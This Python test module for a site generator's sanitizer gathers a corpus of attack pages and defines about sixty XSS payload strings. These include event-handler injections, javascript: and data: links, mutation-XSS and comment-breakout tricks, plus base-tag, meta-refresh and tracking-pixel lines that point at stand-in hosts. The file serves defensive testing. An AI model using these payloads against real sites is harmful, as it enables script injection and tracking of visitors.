"""Every attack that becomes a page: the corpus in tests/attacks, and relatives of its Markdown in other dress."""

from pathlib import Path

from tests.attacks_as_ours import as_ours, rows

CORPUS = Path(__file__).parents[1] / "attacks"
SHOWN = {"A", "N", "W"}
"""What expect.tsv says of a row that is published, as it is or as words."""
_MAY_BE_REFUSED = "A or R"  # and is
QUOTES = "q-aaaaa"
"""How the ids of its quotes begin."""

_RELATIVES = (
    "<img src=x onerror=alert(1)>",
    "<IMG/SRC=x/ONERROR=alert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    "<details ontoggle=alert(1) open>x</details>",
    "<input autofocus onfocus=alert(1)> <select autofocus onfocus=alert(1)></select>",
    "<button onclick=alert(1)>x</button> <marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video> <audio src=x onerror=alert(1)></audio>",
    "<a href='&#x6A;avascript:alert(1)'>x</a> <a href='java&#10;script:alert(1)'>y</a>",
    "<a href='&#1;javascript:alert(1)'>x</a> <a href='javascript&#58;alert(1)'>y</a>",
    "<a href=' javascript:alert(1)'>x</a> <a href='\tjava\tscript:alert(1)'>y</a>",
    "[x](<javascript:alert(1)>) [y](\\javascript:alert(1)) [z](javascript\\:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)> ![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "A note[^1].\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "Term\n:   <img src=x onerror=alert(1)>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | `<b>` |",
    '!!! note "<img src=x onerror=alert(1)>"\n    <img src=x onerror=alert(1)>',
    '!!! "note onclick=alert(1)"\n    x',
    '## A heading <img src=x onerror=alert(1)> { data-toc-label="<img src=x onerror=alert(1)>" }\n\n[TOC]',
    "## A heading { onclick=alert(1) }",
    "![x](a.png){ onerror=alert(1) } *x*{ onmouseover=alert(1) style=position:fixed;inset:0 }",
    "- item\n{: onclick=alert(1) }",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object> <embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='javascript:alert(1)'><button autofocus formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://evil.example/'><script src='x.js'></script>",
    "<link rel=stylesheet href='https://tracker.example/x.css'><style>@import 'https://tracker.example/y.css';</style>",
    "<p style='background:url(https://tracker.example/z.gif)'>x</p>",
    "<img src='https://tracker.example/a.gif'><img srcset='https://tracker.example/b.gif 1x'>",
    "![x](https://tracker.example/c.gif) ![x](\\\\tracker.example/d.gif) ![x](/\\tracker.example/e.gif)",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<p title='[[quote:q-7fk3m2]] onmouseover=alert(1) '>x</p> ![[[theme:waiting]]](a.png)",
    "<a title='[[theme:waiting]]' href='#[[theme:waiting]]'>x</a> <img alt='[[quote:q-7fk3m2]]' src=x>",
    "<!-- finished --><img src=x onerror=alert(1)><!-- /finished -->",
    "&#xE000;0&#xE001; \ue0000\ue001 <b title='&#xE000;0&#xE001;'>x</b>",
    "[[quote:q-7fk3m2]]\n\n<!-- <!-- finished -->--><img src=x onerror=alert(1)><!-- /finished -->",
    "<!--> <img src=x onerror=alert(1)> --> <!--!> <img src=x onerror=alert(1)> --!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]> <?xml <img src=x onerror=alert(1)> ?>",
    "<p\x00onclick=alert(1)>x</p> <img\x0csrc=x\x0conerror=alert(1)>",
    "`code` <img src=`x`onerror=alert(1)> ``<script>alert(1)</script>``",
    "    <script>alert(1)</script>\n\nx\n",
    "> > <img src=x onerror=alert(1)>\n\n1. <svg onload=alert(1)>",
    "\\<script>alert(1)\\</script> \\<img src=x onerror=alert(1)>",
    "<div\n\n<img src=x onerror=alert(1)>\n\n</div>",
    '<div><p title="\n\n"><img src=x onerror=alert(1)>',
)


def vectors() -> dict[str, str]:
    """Give the body of a page for every attack, by a name that can be a page's address."""
    files = sorted((CORPUS / "markdown").glob("*.md"))
    pages = {path.stem.split("-")[0]: path.read_text("utf-8").replace("# M", "## M", 1) for path in files}
    pages["snippets"] = (CORPUS / "fs" / "snippets.md").read_text("utf-8").replace("# S", "## S", 1)
    return pages | {f"r{number:02}": text for number, text in enumerate(_RELATIVES)}


def pages_with_fields() -> dict[str, str]:
    """Give the published pages whose attack is in the fields at their head, by the same kind of name."""
    found = {
        Path(row.file).stem[:3]: CORPUS / row.file
        for row in rows("frontmatter")
        if row.must in SHOWN and row.what != _MAY_BE_REFUSED
    }
    return {name: _as_a_page(path.read_text("utf-8")) for name, path in found.items()}


def _as_a_page(text: str) -> str:
    """Add what a page of ours has besides: a summary, and the one title."""
    return text.replace("title:", "summary: It tells nothing.\ntitle:", 1).replace("\n# ", "\n## ")


def quote_files() -> dict[str, bytes]:
    """Give the quote files of the corpus that are published, each by an id of its own."""
    files = [as_ours(row.file) for row in rows("yaml") if row.must in SHOWN]
    quotes = (raw for raw in files if b"q-aaaaa2" in raw)  # one holds nothing
    return {
        (name := f"{QUOTES}{letter}"): raw.replace(b"q-aaaaa2", name.encode())
        for letter, raw in zip("bcdefghjkmnp", quotes, strict=False)
    }


def refused_files() -> dict[str, bytes]:
    """Give every file of the corpus that may not be published, by a path where somebody could propose it."""
    pages = [row.file for row in rows("frontmatter") if row.must == "R" or row.what == _MAY_BE_REFUSED]
    found = {f"docs/refused-{Path(file).stem[:3]}.md": (CORPUS / file).read_bytes() for file in pages}
    found |= {f"docs/refused/{Path(row.file).name}": (CORPUS / row.file).read_bytes() for row in rows("static")}
    quotes = [row.file for row in rows("yaml") if row.must == "R"]
    return found | {f"content/quotes/refused-{Path(file).stem[:3]}.yml": as_ours(file) for file in quotes}
